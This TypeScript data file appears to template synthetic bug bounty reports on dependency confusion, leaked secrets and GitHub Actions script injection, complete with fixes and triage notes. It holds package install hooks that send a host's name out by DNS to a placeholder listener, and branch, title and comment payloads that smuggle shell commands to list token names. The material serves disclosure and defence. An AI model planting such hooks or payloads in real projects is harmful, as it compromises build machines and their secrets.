import type { VulnerabilityClass } from './vulnerability-class.ts'

const dependencyConfusion: VulnerabilityClass = {
  key: 'dependency-confusion',
  type: 'Supply chain',
  cwe: 427,
  weight: 3,
  surfaces: ['code', 'infrastructure'],
  shape: 'takeover',
  severities: [
    ['Critical', 5],
    ['High', 4],
  ],
  places: [
    {
      path: '/package.json',
      parameter: '@«slug»-internal/ui-kit',
      detail: 'npm',
      excerpt: `// install.js of version 99.10.1, all of it
// reserved by «handle» for the bug bounty programme of «company»
require('node:dns').lookup(require('node:os').hostname() + '.«slug».«listener»', () => {})`,
    },
    {
      path: '/requirements.txt',
      parameter: '«slug»-auth-client',
      detail: 'PyPI',
      excerpt: `# setup.py of version 99.10.1, all of it
# reserved by «handle» for the bug bounty programme of «company»
import socket
from setuptools import setup
try:
    socket.gethostbyname(f"{socket.gethostname()}.«slug».«listener»")
except OSError as error:
    print(error)
setup(name="«slug»-auth-client", version="99.10.1")`,
    },
    {
      path: '/Gemfile',
      parameter: '«slug»-rails-kit',
      detail: 'RubyGems',
      excerpt: `# extconf.rb of version 99.10.1, all of it
# reserved by «handle» for the bug bounty programme of «company»
require 'socket'
require 'mkmf'
Addrinfo.getaddrinfo("#{Socket.gethostname}.«slug».«listener»", nil) rescue nil
create_makefile('kit')`,
    },
  ],
  titles: [
    'Build machines of «company» install my package (`«parameter»` from «detail»)',
    'Dependency confusion: `«parameter»` can be registered on «detail»',
    'Supply chain: `«parameter»` resolved from «detail» before the private registry',
    'Internal package name `«parameter»` was unclaimed on «detail»',
  ],
  summaries: [
    'The manifest `«path»` names `«parameter»`, which exists only in the private registry. The name was free on «detail». A package of mine with that name and a higher version was installed by your build within the hour.',
    '`«parameter»` is not claimed on «detail» and the build asks there first. I reserved the name with an empty package that only reports back that it was installed.',
  ],
  steps: [
    [
      'See the name in `«path»`, which is part of what is published.',
      'Check that it is not on «detail».',
      'Publish version `99.10.1` with an install script that does one DNS lookup, nothing else. The package says who I am and why.',
      'Wait. The lookups below came in from your build machines.',
    ],
  ],
  proofs: [
    [
      {
        say: 'Lookups, one for each installation:',
        lang: 'text',
        code: `10:02:13 DNS A runner-7f9d.«slug».«listener»        from «ip»
10:02:58 DNS A runner-81c2.«slug».«listener»        from «ip»
10:41:20 DNS A laptop-of-a-developer.«slug».«listener» from «ip»`,
      },
      { say: 'What the package does:', lang: 'text', code: '«excerpt»' },
    ],
  ],
  impacts: [
    'Code of a stranger runs on build machines and laptops, with access to signing keys and deploy tokens. It would be shipped to every «customer».',
    'Whoever had taken the name before me would have been inside the build pipeline.',
  ],
  fixes: [
    'Pin the private registry for the scope, reserve the names in public, and install from the lock file only.',
    'Use one registry that mirrors the public one and never falls through for internal names.',
  ],
  notes: [
    'Build log shows 99.10.x from the public registry at 10:02. Runner tokens revoked, package is reserved now by us.',
    'Reporter transferred the name. Very clean work, propose a bonus.',
  ],
}

const secretInRepository: VulnerabilityClass = {
  key: 'secret-in-repository',
  type: 'Hard-coded secret',
  cwe: 798,
  weight: 4,
  surfaces: ['code', 'web', 'infrastructure'],
  shape: 'takeover',
  severities: [
    ['Critical', 3],
    ['High', 4],
    ['Medium', 2],
  ],
  places: [
    {
      path: '/.github/workflows/release.yml',
      parameter: 'REGISTRY_TOKEN',
      detail: 'a token of the package registry',
      excerpt: `# .github/workflows/release.yml, commit 4f1c9e2, 14 months ago
env:
  REGISTRY_TOKEN: reg_live_************************************9f3a`,
    },
    {
      path: '/static/js/main.js.map',
      parameter: 'MAPS_SERVER_KEY',
      detail: 'a server key in a source map',
      excerpt: `# main.js.map, source config/server.ts
export const MAPS_SERVER_KEY = 'AKex********************************c1'`,
    },
    {
      path: '/test/fixtures/env.json',
      parameter: 'SESSION_SIGNING_KEY',
      detail: 'the signing key of sessions',
      excerpt: `# test/fixtures/env.json, still in the main branch
{ "SESSION_SIGNING_KEY": "4b1f****************************************************" }`,
    },
    {
      path: '/deploy/values-prod.yaml',
      parameter: 'WEBHOOK_SECRET',
      detail: 'the secret of the payment webhooks',
      excerpt: `# deploy/values-prod.yaml, removed in commit 81c2ab0, still in the history
webhooks:
  WEBHOOK_SECRET: whsec_********************************`,
    },
  ],
  titles: [
    'Live secret `«parameter»` in `«path»`',
    'Leaked credential (`«parameter»`) still valid',
    'Hard-coded `«parameter»` gives access to production',
    '«Detail» is public (`«path»`)',
  ],
  summaries: [
    'In `«path»` stands «detail». It was not meant to be public, and it works.',
    '`«parameter»` («detail») can be found by everybody in `«path»`. I checked with one harmless call that it is valid and did nothing else with it.',
  ],
  steps: [
    [
      'Open `«path»` as shown below.',
      'The value has the form of a live key.',
      'I made one read-only call with it to see whether it is accepted: it is.',
    ],
  ],
  proofs: [[{ say: 'The place, masked:', lang: 'text', code: '«excerpt»' }]],
  impacts: [
    'Whoever reads the repository can publish in the name of «company». There are public scanners that read every push within seconds.',
    'The credential never expires and has far more rights than its job needs.',
  ],
  fixes: ['Revoke it now, then clean the history. Use short-lived tokens from the pipeline’s own identity.'],
  notes: [
    'Revoked at 14:20. Audit of the registry: nothing published with it since the legitimate release.',
    'Key belongs to a demo tenant, no production data. Lowered to Medium.',
  ],
}

const pipelineInjection: VulnerabilityClass = {
  key: 'pipeline-injection',
  type: 'Command or code injection',
  cwe: 94,
  weight: 2,
  surfaces: ['code'],
  shape: 'takeover',
  severities: [
    ['Critical', 2],
    ['High', 5],
  ],
  places: [
    {
      path: '/.github/workflows/triage.yml',
      parameter: 'issue title',
      detail: 'issues',
      excerpt: `# .github/workflows/triage.yml, on: issues
- run: |
    echo "Checking: \${{ github.event.issue.title }}"

# title of the issue
x"; env | cut -d= -f1 | grep -i token; #`,
    },
    {
      path: '/.github/workflows/preview.yml',
      parameter: 'branch name',
      detail: 'pull_request_target',
      excerpt: `# .github/workflows/preview.yml, on: pull_request_target
- run: ./preview.sh \${{ github.head_ref }}

# name of the branch
x;env|cut$IFS-d=$IFS-f1|grep$IFS-i$IFS'token'`,
    },
    {
      path: '/.github/workflows/docs.yml',
      parameter: 'comment',
      detail: 'issue_comment',
      excerpt: `# .github/workflows/docs.yml, on: issue_comment
- run: |
    if [ "\${{ github.event.comment.body }}" = "/docs" ]; then make docs; fi

# the comment
" ] ; then env | cut -d= -f1 | grep -i token; fi; if [ "`,
    },
  ],
  titles: [
    'Script injection in the build: «parameter» runs as shell in `«path»`',
    'Anybody can run code in the release pipeline through the «parameter»',
    'Poisoned pipeline execution («detail») in `«path»`',
    'The «parameter» of a stranger reaches a shell with release tokens',
  ],
  summaries: [
    'The workflow `«path»` pastes the «parameter» into a shell script. Since it runs on `«detail»`, secrets of the repository are present.',
    'A free account is enough to run code on a runner that holds release tokens. The «parameter» is not quoted.',
  ],
  steps: [
    [
      'Fork the repository (I used a private copy, not yours).',
      'Set the «parameter» to the payload below.',
      'Look at the log of the job: the output of `id` is there, and the names of the secrets.',
    ],
  ],
  proofs: [
    [
      { say: 'The step and what breaks out of it:', lang: 'yaml', code: '«excerpt»' },
      {
        say: 'Log of my copy:',
        lang: 'text',
        code: 'NPM_TOKEN\nRELEASE_SIGNING_TOKEN\nuid=1001(runner) gid=127(docker)',
      },
    ],
  ],
  impacts: [
    'Release tokens can be read by anybody with a free account, and with them every user of the library.',
    'The docker group of the runner means root on the machine that builds releases.',
  ],
  fixes: [
    'Hand the value over through the environment and quote it; take secrets away from workflows that outsiders start.',
  ],
  notes: [
    'Right. The workflow was copied from a blog. Disabled, tokens rotated, team checks the other repositories.',
  ],
}

export const supplyChainClasses: readonly VulnerabilityClass[] = [
  dependencyConfusion,
  secretInRepository,
  pipelineInjection,
]
